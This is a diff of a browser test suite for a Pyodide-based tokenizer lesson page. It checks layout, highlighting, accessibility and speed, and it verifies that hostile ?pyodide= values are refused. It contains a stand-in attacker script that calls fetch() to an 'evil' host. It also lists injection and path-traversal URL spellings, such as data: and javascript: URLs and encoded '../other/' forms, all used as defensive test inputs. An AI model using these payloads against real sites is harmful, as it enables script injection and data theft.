@@ -4,16 +4,24 @@
 // says (python3 -m http.server, Pyodide linked in as .docs/pyodide), and opened in
 // Debian's headless Chromium. The page must:
 //   1. show, for every URL state, byte for byte what python3 prints for the command
-//      it shows (the text, the figure, the copy panel), at 375 x 812 with nothing
-//      cut off, at 1920 x 1080 scaled with the text;
-//   2. run no code but this site's, whatever ?pyodide= says, and send nothing away;
-//   3. never freeze: no main-thread task over 200 ms while loading or during
-//      --train, the lesson's output at the first paint, the first Python output
-//      within 1.3x of a bare loadPyodide() and runPython, and a held arrow key on
-//      the View select runs only where it stops;
-//   4. end each failure (file://, no tokembed.py, a fetch that hangs, a bad
-//      Pyodide folder) with one message that says what to run;
-//   5. light a token's ID, line and figure row together, by mouse, keyboard and tap.
+//      it shows (the text, the figure as --svg - draws it, the copy panel), at 375 x
+//      812 with nothing cut off; paint --tokens' tokens over the text, and lay its
+//      table out in columns on a phone;
+//   2. light a token's ID, line and figure row together, by mouse, keyboard and tap,
+//      --tokens' painted tokens too; name them, announce errors; and on a slide
+//      (1920 x 1080, and at 200% zoom) show the output and the figure together;
+//   3. run no code but its own folder's, whatever ?pyodide= says, and send nothing
+//      away: each spelling refused before any request, and the page's own
+//      Content-Security-Policy stopping them with the checks taken out;
+//   4. never freeze: no main-thread task over 200 ms while loading, during --train,
+//      or for an answer too long to show whole, which shows its start, says what it
+//      left out, and saves the whole; the first Python output within 1.3x of a bare
+//      loadPyodide() and runPython; a held arrow key runs only where it stops; an
+//      address of at most 8,000 characters, which the server takes;
+//   5. end each failure (file://, no tokembed.py, at once; a fetch that hangs, a
+//      bad Pyodide folder) with one message that says what to run; wait out a slow
+//      start and four tabs loading at once; and stop a view that hangs or a worker
+//      that dies, say so, and go on with a fresh one.
 import { createServer } from "node:http";
 import { existsSync, readFileSync } from "node:fs";
 import { join } from "node:path";
@@ -33,9 +41,13 @@ const done = (what) => {
 };
 const read = (name) => readFileSync(join(reference, name), "utf8");
 const states = JSON.parse(read("states.json"));
+const big = JSON.parse(read("big.json"));
 const views = JSON.parse(read("views.json"));  // [flag, takes, help] in VIEWS order
 const median = (xs) => [...xs].sort((a, b) => a - b)[Math.floor(xs.length / 2)];
 const seconds = (ms) => `${(ms / 1000).toFixed(2)} s`;
+const short = (text) => (text.length > 300 ? `${text.slice(0, 300)}…` : text);
+const served = (name) => readFileSync(join(clone, ".docs", name), "utf8");
+const RUN_LIMIT = Number(/const RUN_LIMIT_MS = ([\d_]+);/.exec(served("page.js"))[1].replace(/_/g, ""));
 
 linkPyodide(clone, modules);
 const site = await pythonServer(clone);
@@ -58,17 +70,23 @@ const PAYLOAD = `globalThis.document && (document.title = "PWNED");
 console.log("PWNED");
 fetch("${evil}/ran").catch(() => {});
 export const loadPyodide = () => { throw new Error("PWNED"); };`;
+const elsewhere = [];  // a folder of this site outside the page's own: another project's
+const guard = async (made) => made.route(`${base}/other/**`, (route) => {
+  elsewhere.push(route.request().url());
+  route.fulfill({ contentType: "text/javascript", body: PAYLOAD });
+});
 
 async function context(options = {}) {
   const made = await browser.newContext(options);
   await made.route("**/*", (route) => {
     const url = route.request().url();
     if (/^(blob:)?https?:\/\/127\.0\.0\.1[:/]/.test(url) || /^(data|file):/.test(url)) {
-      return route.continue();
+      return route.fallback();
     }
     outside.push(url);
     return route.abort();
   });
+  await guard(made);
   await made.addInitScript(() => {  // before the page's own script: what a person sees
     window.__longest = [];
     new PerformanceObserver((list) => {
@@ -100,19 +118,37 @@ function watch(page) {  // code from elsewhere announces itself: count it
 }
 
 const at = (query) => `${base}/.docs/index.html?${query}${query ? "&" : ""}pyodide=pyodide/`;
-const shown = (page) => page.evaluate(() => ({
-  output: document.getElementById("output").textContent,
-  command: document.getElementById("command").textContent,
-  figure: window.tokembedPage.shown.figure,
-  source: document.getElementById("source").textContent,
-  copyCommand: document.getElementById("copy-command").textContent,
-  url: location.search,
-  error: document.getElementById("output").classList.contains("error"),
-}));
+const shown = (page) => page.evaluate(() => {
+  const p = window.tokembedPage, $ = (id) => document.getElementById(id);
+  const svg = $("figure").querySelector("svg");
+  return {
+    output: $("output").textContent, whole: p.shown.output, command: p.shown.command,
+    commandShown: $("command").textContent, figure: p.shown.figure,
+    inline: $("figure").innerHTML,
+    size: svg ? [svg.getAttribute("width"), svg.getAttribute("height"), svg.getAttribute("style")]
+              : null,
+    figureNote: $("figure-note").hidden ? "" : $("figure-note").textContent,
+    cut: $("cut-note").hidden ? "" : $("cut-text").textContent,
+    source: $("source").textContent, copyCommand: $("copy-command").textContent,
+    url: location.search, path: location.pathname + location.search, error: $("output").classList.contains("error"),
+    linkNote: $("text-link-note").textContent, tokens: p.shown.tokens,
+    status: $("status").textContent,
+  };
+});
+// The figure as the browser parses --svg -'s bytes, unchanged: the page sizes its box only.
+const parsed = (page, svg) => page.evaluate((svg) => {
+  const box = document.createElement("div");
+  box.innerHTML = svg;
+  return box.innerHTML;
+}, svg);
+const longAfter = (page, what) => page.evaluate((what) => {
+  const from = window.tokembedPage.events.filter(([name]) => name === what).pop()?.[1] ?? 0;
+  return Math.max(0, ...window.__longest.filter(([start]) => start >= from).map(([, ms]) => ms));
+}, what);
 
 // --- 0. The HTML's copies: the lesson's output, and VIEWS -------------------------------------
 {
-  const html = readFileSync(join(clone, ".docs", "index.html"), "utf8");
+  const html = served("index.html");
   const unescape = (text) => text.replace(/&lt;/g, "<").replace(/&gt;/g, ">")
     .replace(/&quot;/g, '"').replace(/&#39;/g, "'").replace(/&amp;/g, "&");
   const pre = /<pre id="output"[^>]*>([^<]*)<\/pre>/.exec(html);
@@ -129,43 +165,82 @@ const shown = (page) => page.evaluate(() => ({
         `the View select lists ${options}, not VIEWS in its order`);
   check(!/<script(?![^>]*type="application\/json")[^>]*>[^<\s]/.test(html),
         "has an inline script, which its Content-Security-Policy would block");
+  check(/<textarea id="text"/.test(html), "takes its text in no <textarea>: line breaks are lost");
   done("the HTML's copy of the lesson's output and of VIEWS");
 }
 
 // --- 1. Every URL state, on a phone: the same bytes, and nothing cut off -------------------
 const phone = await context({ viewport: { width: 375, height: 812 }, hasTouch: true,
                               isMobile: true, deviceScaleFactor: 1 });
-const onPhone = await phone.newPage();
-const phoneSeen = watch(onPhone);
+const phoneSeen = [];
 const layout = (page) => page.evaluate(() => {
   const output = document.getElementById("output");
   const svg = document.querySelector("#figure svg");
   const scroller = svg?.closest(".scroller");
   const source = document.getElementById("source").closest(".scroller");
   const visible = (element) => element && !element.hidden && element.offsetParent !== null;
+  // --tokens' table, a card a token: its ID, bytes and times seen on one line, its row
+  // of numbers under them, starting at one x for every token
+  const rows = [...output.querySelectorAll(".cells[data-position]:not(.more)")];
+  const box = (cell) => cell?.getBoundingClientRect() ?? { left: NaN, top: NaN, bottom: NaN };
+  const lefts = rows.map((line) => Math.round(box(line.children[1]).left));
+  const lineHeight = parseFloat(getComputedStyle(output).lineHeight);
+  const cards = rows.filter((line) => {
+    const [id, numbers, seen] = [...line.children].map(box);
+    return Math.abs(seen.top - id.top) < 2 && numbers.top >= id.bottom - 1 &&
+      id.bottom - id.top < 1.5 * lineHeight;
+  }).length;
   return {
     outputCut: output.scrollWidth - output.clientWidth,
     pageCut: document.documentElement.scrollWidth - window.innerWidth,
     cellPx: svg ? 14 * svg.getBoundingClientRect().width / svg.viewBox.baseVal.width : null,
     figureCut: scroller ? scroller.scrollWidth - scroller.clientWidth : 0,
-    figureCue: scroller ? visible(scroller.nextElementSibling) : false,
+    figureCue: scroller ? visible(scroller.closest(".pane").querySelector(".more-note")) : false,
     sourceCut: source.scrollWidth - source.clientWidth,
     sourceCue: visible(source.nextElementSibling),
+    rows: rows.length, lefts: [...new Set(lefts)], cards,
   };
 });
-for (const [k, state] of states.entries()) {
-  await onPhone.goto(at(state.query));
-  await settled(onPhone);
-  const seen = await shown(onPhone);
-  const expected = existsSync(join(reference, `page-${k}.err`)) ? read(`page-${k}.err`)
-                                                                 : read(`page-${k}.out`);
-  const where = `?${state.query}`;
-  check(seen.command === state.command, `${where}: shows "${seen.command}", not "${state.command}"`);
-  check(seen.output === expected, `${where}: prints\n${seen.output}\n--- not\n${expected}`);
-  check(seen.error === existsSync(join(reference, `page-${k}.err`)),
-        `${where}: does not mark its error as one, or marks its output as an error`);
+// What the strip paints, read back: each whole token's characters, and each character
+// that tokens share shown once; with the IDs in order, and each token's name.
+const painted = (page) => page.evaluate(() => {
+  const strip = document.getElementById("strip");
+  const text = [...strip.children].map((piece) => piece.matches(".split")
+    ? piece.querySelector(".glyph").textContent
+    : [...piece.childNodes].filter((node) => !node.classList?.contains("nl"))
+        .map((node) => node.textContent).join("")).join("");
+  const tokens = [...strip.querySelectorAll(".tok")];
+  return { text, ids: tokens.map((token) => Number(token.dataset.row)),
+           names: tokens.map((token) => `${token.getAttribute("role")}: ` +
+                                         token.getAttribute("aria-label")),
+           parts: strip.querySelectorAll(".split .tok").length,
+           lines: [...document.querySelectorAll("#output .line[data-position]:not(.more)")]
+             .map((line) => Number(line.dataset.row)) };
+});
+async function visit(page, k, state) {
+  await page.goto(at(state.query));
+  await settled(page);
+  const seen = await shown(page);
+  const failed = existsSync(join(reference, `page-${k}.err`));
+  const expected = read(`page-${k}.${failed ? "err" : "out"}`);
+  const where = `?${short(state.query)}`;
+  check(seen.command === state.command && seen.commandShown === state.command,
+        `${where}: shows "${seen.command}", not "${state.command}"`);
+  check(seen.output === expected && seen.whole === expected,
+        `${where}: prints\n${seen.output}\n--- not\n${expected}--- and says "${seen.status}"`);
+  check(seen.error === failed, `${where}: does not mark its error as one, or marks its ` +
+        "output as an error");
   const figure = existsSync(join(reference, `page-${k}.svg`)) ? read(`page-${k}.svg`) : "";
   check(seen.figure === figure, `${where}: draws a different figure`);
+  if (figure) {
+    check(seen.inline === await parsed(page, figure) && seen.size[0] && seen.size[1] &&
+          seen.size[2] === null, `${where}: changes the figure's SVG (width, height, style: ` +
+          `${seen.size})`);
+  }
+  if (state.refused) {
+    check(/64/.test(seen.figureNote) && /d_model/.test(seen.figureNote),
+          `${where}: draws no figure, and says "${seen.figureNote}" of why`);
+  }
   if (state.copy) {
     check(seen.source === read(`page-${k}.copy`), `${where}: the copy panel differs`);
     check(seen.copyCommand === state.copy, `${where}: copy command "${seen.copyCommand}"`);
@@ -174,11 +249,12 @@ for (const [k, state] of states.entries()) {
   const now = new URLSearchParams(seen.url);
   for (const [name, value] of kept) {
     const defaults = { copy: "lookup", kind: "lesson" };
-    check(now.get(name) === value || (defaults[name] === value && !now.has(name)),
+    check(now.get(name) === value || (name === "view" && `--${now.get(name)}` === value) ||
+          (defaults[name] === value && !now.has(name)),
           `${where}: lost ${name}=${value} from its URL: ${seen.url}`);
   }
   check(now.get("pyodide") === "pyodide/", `${where}: lost its own ?pyodide=: ${seen.url}`);
-  const cut = await layout(onPhone);
+  const cut = await layout(page);
   check(cut.outputCut <= 0, `${where}: at 375 px the output is ${cut.outputCut} px too wide`);
   check(cut.pageCut <= 0, `${where}: at 375 px the page scrolls sideways by ${cut.pageCut} px`);
   if (cut.cellPx !== null) {
@@ -186,18 +262,47 @@ for (const [k, state] of states.entries()) {
     check(cut.figureCut <= 0 || cut.figureCue, `${where}: the figure is cut with no cue`);
   }
   check(cut.sourceCut <= 0 || cut.sourceCue, `${where}: the copy panel is cut with no cue`);
+  if (state.argv[0] === "--tokens" && !failed) {
+    const text = state.argv[state.argv.indexOf("--") + 1];
+    const strip = await painted(page);
+    check(strip.text === text, `${where}: paints "${strip.text}", not the text "${text}"`);
+    check(strip.ids.length && JSON.stringify(strip.ids) === JSON.stringify(strip.lines),
+          `${where}: paints tokens ${strip.ids}, where the output's lines say ${strip.lines}`);
+    check(strip.names.every((name) => /^option: (“[^]+”, )?token \d+, b['"].*['"], row \d+/.test(name)),
+          `${where}: names its tokens ${strip.names.slice(0, 3)}`);
+    check(text.length === [...text].length || strip.parts >= 2,
+          `${where}: shows no token as part of a character`);
+    check(cut.rows > 0 && cut.lefts.length === 1 && cut.cards === cut.rows,
+          `${where}: at 375 px the token table's rows start their numbers at x = ` +
+          `${cut.lefts}, and ${cut.cards} of ${cut.rows} read as a card (ID, bytes, times ` +
+          "seen; the row under them)");
+  }
 }
-check(!phoneSeen.length, `ran code from elsewhere: ${phoneSeen}`);
+{
+  // Two phones, each taking the next state: Pyodide's start is most of a visit.
+  const queue = [...states.entries()];
+  await Promise.all([0, 1].map(async () => {
+    const page = await phone.newPage();
+    phoneSeen.push(watch(page));
+    for (let next = queue.shift(); next; next = queue.shift()) await visit(page, ...next);
+    await page.close();
+  }));
+}
+check(!phoneSeen.flat().length, `ran code from elsewhere: ${phoneSeen.flat()}`);
 done(`${states.length} URL states at 375 x 812: the same bytes as python3, nothing cut off`);
 
-// --- 2. Linked highlighting, the vocabulary's buttons ---------------------------------------
+// --- 2. Linked highlighting, the vocabulary's buttons, names, a slide ------------------------
 {
-  const page = onPhone;
+  const page = await phone.newPage();
+  watch(page);
   await page.goto(at("view=table&text=my+order+order"));
   await settled(page);
-  const lit = () => page.evaluate(() => ({
+  const lit = (on = page) => on.evaluate(() => ({
     figure: [...document.querySelectorAll("#figure .lit")].map((e) => e.dataset.row),
     output: [...document.querySelectorAll("#output .lit")].map((e) => e.dataset.row),
+    lines: [...document.querySelectorAll("#output .line.lit")].map((e) => e.dataset.row),
+    strip: [...document.querySelectorAll("#strip .lit")].map((e) => e.dataset.row),
+    selected: [...document.querySelectorAll("#strip [aria-selected=true]")].map((e) => e.dataset.row),
     note: document.getElementById("lit-note").textContent,
   }));
   await page.tap("#output .token >> text=order");  // a phone's tap, on a token
@@ -213,6 +318,28 @@ done(`${states.length} URL states at 375 x 812: the same bytes as python3, nothi
   check(now.output.includes("1") && now.output.every((row) => row === "1"),
         `a tapped figure row lit output rows ${now.output}`);
   await page.keyboard.press("Escape");
+  // --tokens: a tap on a painted token lights it and its line; a tap on a line, the token
+  await page.goto(at("view=tokens&text=refund+my+%F0%9F%98%89+order+my"));
+  await settled(page);
+  await page.tap("#strip .tok[data-row='344'] >> nth=0");  // b' my'
+  now = await lit();
+  const mine = (await page.evaluate(() => window.tokembedPage.shown.tokens.ids))
+    .flatMap((id, k) => (id === 344 ? [k] : []));
+  check(mine.length === 2 && now.lines.length === 2 && now.output.every((row) => row === "344") &&
+        now.strip.length === 2 && now.selected.length === 2 && /Token 344, b' my'/.test(now.note) &&
+        now.note.includes(`positions ${mine.join(", ")}`),
+        `a tapped painted token lit ${JSON.stringify(now)}`);
+  await page.tap("#output [data-row='318'] >> nth=0");  // b' order'
+  now = await lit();
+  check(now.strip.length === 1 && now.strip[0] === "318" && now.output.includes("318"),
+        `a tapped line of --tokens lit ${JSON.stringify(now)}`);
+  const parts = await page.evaluate(() => [...document.querySelectorAll("#strip .split .tok")]
+    .map((token) => token.getAttribute("aria-label")));
+  check(parts.length === 4 && parts.every((name) => /part of “😉”/.test(name)) &&
+        parts[0].startsWith("“\uFFFD”, token 240, b'\\xf0', row 240"),
+        `the emoji's four byte tokens are named ${parts}`);
+  await page.close();
+
   const desktop = await context({ viewport: { width: 1366, height: 900 } });
   const wide = await desktop.newPage();
   watch(wide);
@@ -241,6 +368,13 @@ done(`${states.length} URL states at 375 x 812: the same bytes as python3, nothi
   check(await wide.inputValue("#text") === "late" &&
         added.command === "python3 tokembed.py -- late" &&
         added.output.startsWith("token ids: [5]\n"), `the late button gave ${added.command}`);
+  // A view the page does not have: it says so, and keeps saying so once Python is ready
+  await wide.goto(at("view=nonsense&text=my"));
+  await settled(wide);
+  const unknown = await shown(wide);
+  check(unknown.command === "python3 tokembed.py -- my" &&
+        /no view “nonsense”/.test(await wide.textContent("#view-note")),
+        `?view=nonsense: shows ${unknown.command}, and says "${await wide.textContent("#view-note")}"`);
   // The output has a name a screen reader reads; two figures keep their ids apart.
   check(await wide.getByRole("region", { name: "What tokembed.py prints" }).count() === 1,
         "the output box has no accessible name");
@@ -262,18 +396,58 @@ done(`${states.length} URL states at 375 x 812: the same bytes as python3, nothi
   });
   check(!ids.repeated.length && !ids.dangling.length,
         `two figures: ids ${ids.repeated} repeat, references ${ids.dangling} dangle`);
+  // --tokens by keyboard: one tab stop, then arrow keys along the tokens, each lighting
+  // its line; a hovered line lights its token
+  await wide.goto(at("view=tokens&text=refund+my+order"));
+  await settled(wide);
+  await wide.focus("#strip .tok[tabindex='0']");
+  const along = [];
+  for (const key of ["ArrowRight", "ArrowRight", "End", "Home"]) {
+    await wide.keyboard.press(key);
+    along.push(await wide.evaluate(() => ({
+      at: document.activeElement.dataset.position,
+      lines: [...document.querySelectorAll("#output .line.lit")].map((e) => e.dataset.row),
+      stops: document.querySelectorAll("#strip [tabindex='0']").length })));
+  }
+  const ids2 = await wide.evaluate(() => window.tokembedPage.shown.tokens.ids);
+  check(JSON.stringify(along.map((step) => step.at)) ===
+        JSON.stringify(["1", "2", String(ids2.length - 1), "0"]) &&
+        along.every((step, k) => step.stops === 1 && step.lines.length &&
+                    step.lines.every((row) => row === String(ids2[Number(step.at)]))),
+        `arrow keys on the painted tokens: ${JSON.stringify(along)}`);
+  await wide.hover("#output [data-position='0']");
+  now = await lit(wide);
+  check(now.strip.length && now.strip.every((row) => row === String(ids2[0])),
+        `hovering --tokens' first line lit painted tokens ${now.strip}`);
+  await wide.mouse.move(1, 1);
   const axe = join(modules, "axe-core", "axe.min.js");
-  if (existsSync(axe)) {
-    await wide.evaluate(readFileSync(axe, "utf8"));  // as DevTools would: the page's CSP allows no inline script
+  const scan = async (label) => {
+    if (!existsSync(axe)) return;
+    if (!await wide.evaluate(() => Boolean(window.axe))) {
+      await wide.evaluate(readFileSync(axe, "utf8"));  // as DevTools would: the CSP blocks inline scripts
+    }
     for (const scheme of ["light", "dark"]) {
       await wide.emulateMedia({ colorScheme: scheme });
       const found = await wide.evaluate(async () => (await window.axe.run()).violations
         .map((v) => `${v.id}: ${v.nodes.map((n) => n.target).join(" ")}`));
-      check(!found.length, `axe-core, ${scheme}: ${found.join("; ")}`);
+      check(!found.length, `axe-core, ${label}, ${scheme}: ${found.join("; ")}`);
     }
-  } else {
-    console.log("page: axe-core is not in NODE_MODULES: its check did not run");
-  }
+    await wide.emulateMedia({ colorScheme: "light" });
+  };
+  await scan("--tokens");
+  // An error is announced, not only shown
+  await wide.goto(at("seed=abc"));
+  await settled(wide);
+  const announced = await wide.evaluate(() => ({
+    said: document.getElementById("announce").textContent,
+    role: document.getElementById("announce").getAttribute("role") }));
+  check(announced.role === "status" && /refused it: .*abc/.test(announced.said),
+        `an error is announced as "${announced.said}"`);
+  await scan("an error");
+  await wide.goto(at(""));
+  await settled(wide);
+  if (existsSync(axe)) await scan("the lesson");
+  else console.log("page: axe-core is not in NODE_MODULES: its check did not run");
   // Dark mode: the page and the figure's paper turn dark, its ink light.
   await wide.emulateMedia({ colorScheme: "dark" });
   const dark = await wide.evaluate(() => {
@@ -287,50 +461,99 @@ done(`${states.length} URL states at 375 x 812: the same bytes as python3, nothi
   check(dark.page < 0.2 && dark.ink > 0.8 && dark.title > 0.8,
         `in dark mode: page ${dark.page}, ink ${dark.ink}, figure title ${dark.title}`);
   await wide.emulateMedia({ colorScheme: "light" });
-  // On a 1920 slide the figure and the controls grow with the text; headings stay larger.
-  await wide.setViewportSize({ width: 1920, height: 1080 });
-  const slide = await wide.evaluate(() => {
-    const px = (element) => parseFloat(getComputedStyle(element).fontSize);
-    const svg = document.querySelector("#figure svg");
-    return { body: px(document.body), h1: px(document.querySelector("h1")),
-             h2: px(document.querySelector("h2")), select: px(document.getElementById("view")),
-             scale: svg.getBoundingClientRect().width / svg.viewBox.baseVal.width,
-             cut: document.documentElement.scrollWidth - window.innerWidth };
-  });
-  check(slide.body >= 20 && slide.h1 > slide.h2 && slide.h2 > slide.body &&
-        slide.select >= slide.body && slide.scale >= slide.body / 16 - 0.01 && slide.cut <= 0,
-        `at 1920 x 1080: ${JSON.stringify(slide)}`);
   await desktop.close();
-  done("a token lights its ID, its line and its row, by tap, mouse and keyboard; " +
-       "word buttons, names, ids, dark mode and a slide");
+  // A slide, at 1920 x 1080 and at 200% zoom: the output and the figure (or the
+  // painted tokens) in the first screen together, the View select in it too, the
+  // figure whole; at 1920 the text, the controls and the figure grow together.
+  for (const [width, height, scale] of [[1920, 1080, 1], [960, 540, 2]]) {
+    const slides = await context({ viewport: { width, height }, deviceScaleFactor: scale });
+    const slide = await slides.newPage();
+    watch(slide);
+    for (const query of ["view=table&text=my+order+order", "", "view=tokens&text=refund+my+order"]) {
+      await slide.goto(at(query));
+      await settled(slide);
+      const seen = await slide.evaluate(() => {
+        const box = (selector) => {
+          const element = document.querySelector(selector);
+          if (!element || element.closest("[hidden]")) return null;
+          const r = element.getBoundingClientRect();
+          return [r.left, r.top, r.right, r.bottom].map(Math.round);
+        };
+        const first = document.querySelector("#output .line");
+        const px = (element) => parseFloat(getComputedStyle(element).fontSize);
+        const svg = document.querySelector("#figure svg");
+        return { output: box("#output"), line: first && box("#output .line"),
+                 figure: box("#figure svg"), strip: box("#strip"), view: box("#view"),
+                 w: innerWidth, h: innerHeight, said: document.getElementById("status").textContent,
+                 body: px(document.body), h1: px(document.querySelector("h1")),
+                 h2: px(document.querySelector("h2")), select: px(document.getElementById("view")),
+                 scale: svg ? svg.getBoundingClientRect().width / svg.viewBox.baseVal.width : null,
+                 cut: document.documentElement.scrollWidth - innerWidth };
+      });
+      const inside = (r) => r && r[0] >= 0 && r[1] >= 0 && r[2] <= seen.w && r[3] <= seen.h;
+      const where = `at ${width} x ${height} (x${scale}), ?${query}`;
+      check(inside(seen.line) && seen.output[1] < seen.h && inside(seen.view) && seen.cut <= 0,
+            `${where}: the output or the View select is not on the first screen: ` +
+            JSON.stringify(seen));
+      if (query.includes("tokens")) {
+        check(inside(seen.strip), `${where}: the painted tokens are off the screen: ${seen.strip}`);
+      } else {
+        check(inside(seen.figure), `${where}: the figure is not whole on the first screen ` +
+              `beside the output: ${JSON.stringify(seen)}`);
+      }
+      if (width === 1920 && seen.figure) {
+        check(seen.body >= 20 && seen.h1 > seen.h2 && seen.h2 > seen.body &&
+              seen.select >= seen.body && seen.scale >= seen.body / 16 - 0.01,
+              `${where}: ${JSON.stringify(seen)}`);
+      }
+    }
+    await slides.close();
+  }
+  done("a token lights its ID, its line and its row, by tap, mouse and keyboard, --tokens' " +
+       "painted tokens too; names, word buttons, ids, axe, dark mode; a slide shows the " +
+       "output and the figure together");
 }
 
-// --- 3. Only this site's code runs, whatever ?pyodide= says ----------------------------------
+// --- 3. Only this folder's code runs, whatever ?pyodide= says --------------------------------
 {
+  const port = attacker.address().port;
   const attacks = [
     "data:text/javascript,alert(document.domain)//",
     `data:text/javascript,fetch('${evil}/data')//`,
-    `${evil}/`, `${evil}`, `//127.0.0.2:${attacker.address().port}/`,
-    `/\\127.0.0.2:${attacker.address().port}/`, `\t//127.0.0.2:${attacker.address().port}/`,
-    `HTTP://127.0.0.2:${attacker.address().port}/`, `http://127.0.0.1@127.0.0.2:${attacker.address().port}/`,
+    `${evil}/`, `${evil}`, `//127.0.0.2:${port}/`,
+    `/\\127.0.0.2:${port}/`, `\t//127.0.0.2:${port}/`,
+    `HTTP://127.0.0.2:${port}/`, `http://127.0.0.1@127.0.0.2:${port}/`,
     `blob:${base}/00000000-0000-0000-0000-000000000000`, "javascript:alert(1)//",
     "https://cdn.jsdelivr.net/npm/pyodide@314.0.6/", "https://cdn.jsdelivr.net.evil.example/",
+    // this site, but outside the page's own folder: on shared hosting, someone else's
+    "../other/", "..%2Fother/", "%2E%2E/other/", ".%2e/other/", "%2e%2e%2fother%2f",
+    "pyodide/../../other/", "pyodide/%2E%2E/%2E%2E/other/", "pyodide%2F..%2F..%2Fother/",
+    "/other/", "/.docs/pyodide/", `${base}/other/`, `${base}/.docs/pyodide/`, "./pyodide/",
+    "pyodide\\..\\..\\other\\", "..\\other\\", "pyodide/..", ".", "..", "~user/",
+    "%2Fother/", "pyodide/./../../other/", " ../other/", "pyodide/?x=../../other/",
+    "pyodide/#/../../other/",
   ];
-  const page = await (await context()).newPage();
+  const made = await context();
+  const page = await made.newPage();
   const seen = watch(page);
+  const asked = [];
+  page.on("request", (request) => asked.push(request.url()));
   for (const [k, attack] of attacks.entries()) {
     const query = new URLSearchParams({ text: "my order", view: "table", pyodide: attack });
     if (k === 3) query.append("pyodide", "pyodide/");  // two: the first must not win
+    asked.length = 0;
     await page.goto(`${base}/.docs/index.html?${query}`);
     await page.waitForSelector("#status[data-state=error]", { timeout: 20000 });
-    await page.waitForTimeout(300);
+    await page.waitForTimeout(200);
     const after = await page.evaluate(() => ({
       status: document.getElementById("status").textContent, title: document.title,
       url: location.search, text: document.getElementById("text").disabled,
       view: document.getElementById("view").disabled,
       link: document.querySelector("#help a")?.getAttribute("href") ?? "" }));
-    const where = `?pyodide=${attack}`;
+    const where = `?pyodide=${JSON.stringify(attack)}`;
+    const fetched = asked.filter((url) => !/\/\.docs\/(index\.html|page\.js|page\.css)/.test(url));
     check(/did not load it/.test(after.status), `${where}: says "${after.status}"`);
+    check(!fetched.length, `${where}: asked for ${fetched} before refusing`);
     check(after.title !== "PWNED", `${where}: ran the attacker's script`);
     check(!after.url.includes("pyodide="), `${where}: keeps the refused ?pyodide= in its URL`);
     check(!after.text && !after.view, `${where}: leaves the controls disabled`);
@@ -342,41 +565,48 @@ done(`${states.length} URL states at 375 x 812: the same bytes as python3, nothi
   }
   check(!seen.length, `ran code from elsewhere: ${seen.join("; ")}`);
   check(!attacked.length, `asked the attacker's server for ${attacked.join(", ")}`);
+  check(!elsewhere.length, `asked for another folder's code: ${elsewhere.join(", ")}`);
   check(!outside.length, `sent requests away from 127.0.0.1: ${outside.join(", ")}`);
-  await page.context().close();
-  done(`${attacks.length} hostile ?pyodide= links are refused, with a message, and nothing ` +
-       "leaves 127.0.0.1");
+  await made.close();
+  done(`${attacks.length} hostile ?pyodide= links are refused before any request, with a ` +
+       "message, and nothing leaves 127.0.0.1");
 
-  // The Content-Security-Policy alone stops them too: with both of the page's own
-  // checks taken out (page.js and worker.js, as served), no foreign script loads.
+  // The Content-Security-Policies alone stop them too: with both of the page's own
+  // checks taken out (page.js and worker.js, as served), no foreign script loads. The
+  // HTML's policy stops other sites; the one page.js adds, other folders of this site.
   const bare = await context();
   const unchecked = {
-    "page.js": ["const here = url && /^https?:$/.test(url.protocol) && url.origin === location.origin;",
-                "const here = true;"],
+    "page.js": ["  if (!given.length) return { folder: PYODIDE };\n",
+                "  if (!given.length) return { folder: PYODIDE };\n  return { folder: new " +
+                "URL(given[0], location.href).href.replace(/\\/?$/, \"/\"), asGiven: given[0] };\n"],
     "worker.js": ["function allowed(folder) {", "function allowed(folder) { return true;"],
   };
   for (const [name, [from, to]] of Object.entries(unchecked)) {
-    const served = readFileSync(join(clone, ".docs", name), "utf8");
-    check(served.includes(from), `${name} no longer has "${from}": update this check`);
+    const body = served(name);
+    check(body.includes(from), `${name} no longer has "${from}": update this check`);
     await bare.route(`${base}/.docs/${name}`, (route) => route.fulfill({
-      contentType: "text/javascript", body: served.replace(from, to) }));
+      contentType: "text/javascript", body: body.replace(from, to) }));
   }
   const open = await bare.newPage();
   const seenBare = watch(open);
   for (const attack of [`${evil}/`, `data:text/javascript,console.log("PWNED")//`,
-                        "https://cdn.jsdelivr.net/npm/pyodide@314.0.6/"]) {
+                        "https://cdn.jsdelivr.net/npm/pyodide@314.0.6/", "../other/",
+                        "/other/", `${base}/other/`]) {
     await open.goto(`${base}/.docs/index.html?${new URLSearchParams({ pyodide: attack })}`);
     await open.waitForSelector("#status[data-state=error]", { timeout: 20000 });
     check(/could not be loaded/.test(await open.textContent("#status")),
           `unchecked, ?pyodide=${attack}: says "${await open.textContent("#status")}"`);
   }
-  check(!seenBare.length && !attacked.length,
-        `unchecked, the policy let code from elsewhere run: ${seenBare} ${attacked}`);
+  const policy = await open.evaluate(() => window.tokembedPage.policy);
+  check(policy.includes(`script-src ${base}/.docs/ `) && !policy.includes(`${base}/ `),
+        `the page's own policy is "${policy}", not this folder's`);
+  check(!seenBare.length && !attacked.length && !elsewhere.length,
+        `unchecked, the policy let code from elsewhere run: ${seenBare} ${attacked} ${elsewhere}`);
   const cdnAsked = outside.filter((url) => url.includes("pyodide@314.0.6"));
   check(!cdnAsked.length, `unchecked, the policy let the page ask for ${cdnAsked}`);
   outside.length = 0;  // those were the policy's to stop, and it did
   await bare.close();
-  done("with the page's own checks removed, its Content-Security-Policy still stops them");
+  done("with the page's own checks removed, its Content-Security-Policies still stop them");
 
   // With no ?pyodide=, the page loads the pinned jsDelivr copy: answered here, from
   // the npm package, so that nothing leaves this machine.
@@ -508,17 +738,95 @@ window.__done = performance.now();
         `a superseded --train still showed: ${JSON.stringify(last2)}`);
   check(Math.max(0, ...last2.long.map(([, ms]) => ms)) <= 200,
         `a main-thread task of ${JSON.stringify(last2.long)} ms while --train ran`);
+  // A keystroke that asks for a very long answer (60 words x 16,384): no long task.
+  await page.selectOption("#view", "");
+  await page.fill("#text", "my order is late refund ".repeat(12).trim());
+  await settled(page);
+  await page.evaluate(() => { window.tokembedPage.events.push(["keystroke", performance.now()]); });
+  await page.fill("#d_model", "16384");
+  await settled(page, 240000);
+  const keyed = await page.evaluate(() => ({ cut: document.getElementById("cut-text").textContent,
+    shown: document.getElementById("output").textContent.length,
+    whole: window.tokembedPage.shown.output.length }));
+  const keyLong = await longAfter(page, "keystroke");
+  check(keyLong <= 200 && keyed.shown < keyed.whole && /first [\d,]+ lines/.test(keyed.cut),
+        `d_model 16384 for 60 words: a ${keyLong} ms task, shows ${keyed.shown} of ` +
+        `${keyed.whole} characters, says "${keyed.cut}"`);
